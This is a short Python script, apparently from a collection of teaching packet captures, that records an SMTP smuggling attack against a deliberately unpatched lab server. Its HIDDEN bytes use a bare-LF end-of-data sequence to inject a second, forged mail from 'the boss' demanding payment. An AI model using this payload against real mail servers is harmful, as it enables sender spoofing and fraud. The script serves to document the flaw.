#!/usr/bin/env python3
"""Records smuggled.pcapng: a second mail is hidden in the first. See README.md."""

import smtplib

from stage import letter, record

# As servers were before December 2023; newer ones refuse a line that ends in LF alone.
CONFIG = """
smtpd_forbid_bare_newline = no
"""
HIDDEN = (
    b"\n.\r\n"  # no end of a message, by the rules: a line ends in CR LF
    b"MAIL FROM:<boss@example.com>\r\n"
    b"RCPT TO:<ben@example.com>\r\n"
    b"DATA\r\n"
    b"From: The Boss <boss@example.com>\r\n"
    b"To: ben@example.com\r\n"
    b"Subject: Pay this at once\r\n"
    b"\r\n"
    b"You never saw where this came from.\r\n"
    b".\r\n"
)


def send() -> None:
    octets = letter("Nothing special", "Hello Anna\n").as_bytes()
    with smtplib.SMTP("192.0.2.25", local_hostname="client.example.net") as server:
        server.ehlo()
        server.mail("carla@example.net")
        server.rcpt("anna@example.com")
        assert server.docmd("DATA")[0] == 354
        server.send(octets + HIDDEN)
        codes = [server.getreply()[0] for _ in range(5)]
        assert codes == [250, 250, 250, 354, 250], codes


if __name__ == "__main__":
    record(send, config=CONFIG)
